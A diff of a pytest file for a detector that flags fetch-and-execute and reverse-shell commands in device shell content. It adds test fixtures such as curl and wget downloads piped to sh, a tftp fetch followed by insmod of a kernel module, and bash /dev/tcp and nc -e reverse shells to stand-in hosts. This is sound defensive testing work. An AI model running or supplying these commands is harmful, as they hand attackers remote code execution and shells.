@@ -26,6 +26,15 @@ def mechanisms(content: bytes, leaf_format: str = "shell"):
         (b"curl -fsSL http://x.tuyacn.com/i.sh | sh\n", "fetch-and-execute:http://x.tuyacn.com/i.sh", "x.tuyacn.com"),
         (b"wget -q -O- http://x.tuyacn.com/i | /bin/sh", "fetch-and-execute:http://x.tuyacn.com/i", "x.tuyacn.com"),
         (b"wget http://x.cn/a -O /tmp/a && chmod +x /tmp/a", "fetch-and-execute:http://x.cn/a", "x.cn"),
+        (b"wget http://x.cn/d/a.sh\nchmod +x a.sh\n./a.sh\n", "fetch-and-execute:http://x.cn/d/a.sh", "x.cn"),
+        (b"cd /tmp\r\nwget http://x.cn/a -O b\r\nsleep 1\r\nsh /tmp/b\r\n", "fetch-and-execute:http://x.cn/a", "x.cn"),
+        (
+            b'curl -s "https://x.cn/r?id=1" > $T/run\nif [ -s x ]; then $T/run; fi',
+            "fetch-and-execute:https://x.cn/r?id=1",
+            "x.cn",
+        ),
+        (b"wget 47.1.2.3/bins.sh; chmod 777 bins.sh; sh bins.sh", "fetch-and-execute:47.1.2.3:/bins.sh", "47.1.2.3"),
+        (b"tftp -g -r up.ko 47.1.2.3\ninsmod ./up.ko\n", "fetch-and-execute:47.1.2.3", "47.1.2.3"),
         (b'sh -c "$(curl -s https://x.cn/a)"', "fetch-and-execute:https://x.cn/a", "x.cn"),
         (b"bash -i >& /dev/tcp/47.1.2.3/4444 0>&1", "reverse-shell:47.1.2.3", "47.1.2.3"),
         (b"nc 47.1.2.3 4444 -e /bin/sh", "reverse-shell:47.1.2.3", "47.1.2.3"),
@@ -70,6 +79,10 @@ def test_names_the_mechanism_and_its_host(content, value, host):
         b"the IOTC_something\n",
         b"http://user:%s@47.1.2.3/",
         b"http://x.cn/photo/a",
+        b"wget http://x.cn/list\nchmod +x /bin/other\ngrep x list\n",
+        b"wget http://x.cn/list\ncat list\n./listing\n",
+        b"curl http://x.cn/a -o -\nchmod +x -\n",
+        b"\0wget http://x.cn/a\0chmod +x a\0",
     ],
 )
 def test_leaves_other_lines_alone(content):
@@ -77,8 +90,12 @@ def test_leaves_other_lines_alone(content):
 
 
 @pytest.mark.parametrize(
-    "piece", [b"mount ", b"curl wget ", b"ssh -R ", b"a", b"nc -e ", b"-p ", b"http://upgrade", b"://a:"]
-)
+    "piece",
+    [
+        b"mount ", b"curl wget ", b"ssh -R ", b"a", b"nc -e ", b"-p ", b"http://upgrade", b"://a:",
+        b"wget http://a.cn/a\nchmod ", b"wget 47.1.2.3/a ",
+    ],
+)  # fmt: skip
 def test_a_long_line_costs_linear_time(piece):
     def seconds(size: int) -> float:
         began = time.process_time()
